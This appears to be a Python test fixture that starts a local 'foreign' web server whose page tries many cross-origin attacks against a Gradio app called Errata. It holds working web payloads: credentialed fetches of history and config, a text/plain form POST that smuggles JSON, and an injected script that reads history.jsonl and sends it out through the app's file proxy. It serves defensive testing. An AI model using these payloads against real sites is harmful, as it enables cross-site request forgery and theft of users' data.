"""Another web server on this machine, with pages that want what Errata has."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

PAGE = """<!DOCTYPE html><title>foreign</title><body>
<script>
const errata = new URLSearchParams(location.search).get("errata"), got = {};
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const draft = JSON.stringify({ kind: "draft", data: { reference: "planted", output: "planted" } });
const call = JSON.stringify({ data: ["The planted ferry left.", "The planted ferry left."] });

async function asks(name, path, settings) {
  try {
    const answer = await fetch(errata + path, settings);
    got[name] = answer.type === "opaque" ? "" : await answer.text();
  } catch { got[name] = ""; }
}
const loads = (tag, address) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => done("loaded"); element.onerror = () => done("");
  element[tag === "link" ? "href" : "src"] = errata + address;
  if (tag === "link") element.rel = "stylesheet";
  document.body.append(element);
});
const frames = (address) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.onload = () => { try { done(frame.contentDocument.body.innerText); } catch { done(""); } };
  frame.src = errata + address;
  document.body.append(frame);
});
const streams = (address) => new Promise((done) => {
  const stream = new EventSource(errata + address, { withCredentials: true });
  stream.onmessage = (event) => done(event.data); stream.onerror = () => done("");
});
const sockets = (address) => new Promise((done) => {
  const socket = new WebSocket(errata.replace("http", "ws") + address);
  socket.onopen = () => done("opened"); socket.onerror = () => done("");
});
async function opens(address) {
  const other = window.open(errata + address);
  await wait(1500);
  try { return other ? other.document.body.innerText : ""; } catch { return ""; }
}
async function posts(address, text) {
  const form = document.createElement("form"), field = document.createElement("input"), frame = document.createElement("iframe");
  frame.name = "posted"; document.body.append(frame);
  Object.assign(form, { method: "post", enctype: "text/plain", action: errata + address, target: "posted" });
  Object.assign(field, { name: text.slice(0, -1) + ', "x": "', value: '"}' });
  form.append(field); document.body.append(form); form.submit();
  await wait(500);
  try { return frame.contentDocument.body.innerText; } catch { return ""; }
}

(async () => {
  const all = { credentials: "include" };
  await asks("history", "errata/history.jsonl", all);
  await asks("config", "config", all);
  await asks("page", "", all);
  await asks("info", "gradio_api/info", all);
  await asks("proxy", `gradio_api/file=${location.origin}/stolen.png`, all);
  await asks("proxy quietly", `gradio_api/file=${location.origin}/stolen.png`, { mode: "no-cors" });
  await asks("preflight", "errata/keep", { ...all, method: "POST", headers: { "Content-Type": "application/json" }, body: draft });
  await asks("draft", "errata/keep", { ...all, method: "POST", body: draft });
  await asks("draft quietly", "errata/keep", { ...all, method: "POST", mode: "no-cors", body: draft });
  await asks("call", "gradio_api/call/analyze", { ...all, method: "POST", mode: "no-cors", body: call });
  await asks("import", "errata/import?name=x.json", { ...all, method: "POST", mode: "no-cors", body: "[]" });
  const upload = new FormData(); upload.append("files", new Blob(["x"]), "state.json");
  await asks("upload", "gradio_api/upload", { ...all, method: "POST", mode: "no-cors", body: upload });
  navigator.sendBeacon(errata + "errata/keep", draft);
  got.script = await loads("script", "errata/history.jsonl");
  got.ownScript = await loads("script", "errata/assets/js/autosave.js");
  got.style = await loads("link", "theme.css");
  got.image = await loads("img", "favicon.ico");
  got.frame = await frames("");
  got.framedHistory = await frames("errata/history.jsonl");
  got.stream = await streams("gradio_api/queue/data?session_hash=x");
  got.heartbeat = await streams("gradio_api/heartbeat/x");
  got.socket = await sockets("gradio_api/queue/join");
  got.posted = await posts("errata/keep", draft);
  got.opened = await opens("?a=ca5e0123abcd");
  await fetch("/report", { method: "POST", body: JSON.stringify(got) });
  document.title = "done";
})();
</script>"""

SCRIPT = b"""<script>
document.title = "taken over";
fetch("/errata/history.jsonl").then((answer) => answer.text()).then((text) => fetch("/gradio_api/file=" + location.origin + text));
</script>"""


@dataclass
class Foreign:
    """The server's address, the paths that were asked of it, and what its page reported."""

    url: str
    asked: list[str] = field(default_factory=list)
    reports: list[dict[str, str]] = field(default_factory=list)


@contextmanager
def foreign_server() -> Iterator[Foreign]:
    """Serves `/`, the page that tries everything (`?errata=ADDRESS`), and HTML with a script in it under any other name."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            foreign.asked.append(self.path)
            self._say(PAGE.encode() if self.path.startswith("/?") else SCRIPT)

        def do_POST(self) -> None:
            foreign.reports.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
            self._say(b"")

        def _say(self, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *args: object) -> None:
            """Say nothing."""

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    foreign = Foreign(f"http://127.0.0.1:{http.server_address[1]}/")
    threading.Thread(target=http.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    try:
        yield foreign
    finally:
        http.shutdown()
        http.server_close()
